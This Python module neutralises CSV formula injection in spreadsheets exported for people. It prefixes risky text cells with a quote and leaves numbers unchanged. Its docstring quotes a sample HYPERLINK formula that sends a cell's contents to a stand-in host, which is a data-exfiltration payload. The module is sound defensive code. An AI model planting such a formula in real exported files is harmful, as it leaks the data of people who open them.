"""CSV files for people: cells that a spreadsheet would run as a formula are neutralised.

A quarantined row delivered by an agency, a complaint text or a region name is data from outside;
opened in Excel or LibreOffice, a cell such as `=HYPERLINK("http://x/?"&A2,"klik")` or
`@SUM(...)` runs. Following OWASP's "CSV injection" advice, a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading single quote, which spreadsheets show as
text and never evaluate.

Numbers stay numbers: an int or float cell, and a text cell that is a plain decimal number
(`-5`, `+62`, `3.5`), are written unchanged. A spreadsheet reads such a cell as a number, never a
formula, and quoting them would break the columns that are meant to be summed (the open-data
package's counts, validated by frictionless). Anything else that starts with those characters,
`-5+1` or `+62 812` included, is quoted.

Only for files read by people. Files that Tepat itself reads back (a re-submission of corrected
quarantine rows, a provider simulator's statement) keep their bytes exactly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def cell(value: Any) -> Any:
    """`value` made safe for a spreadsheet: numbers unchanged, risky text with a leading `'`."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class SafeWriter:
    """csv.writer whose every cell goes through `cell`."""

    def __init__(self, fh: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(fh: IO[str], **kwargs: Any) -> SafeWriter:
    """A drop-in for csv.writer(fh, ...) for files that people open."""
    return SafeWriter(fh, **kwargs)
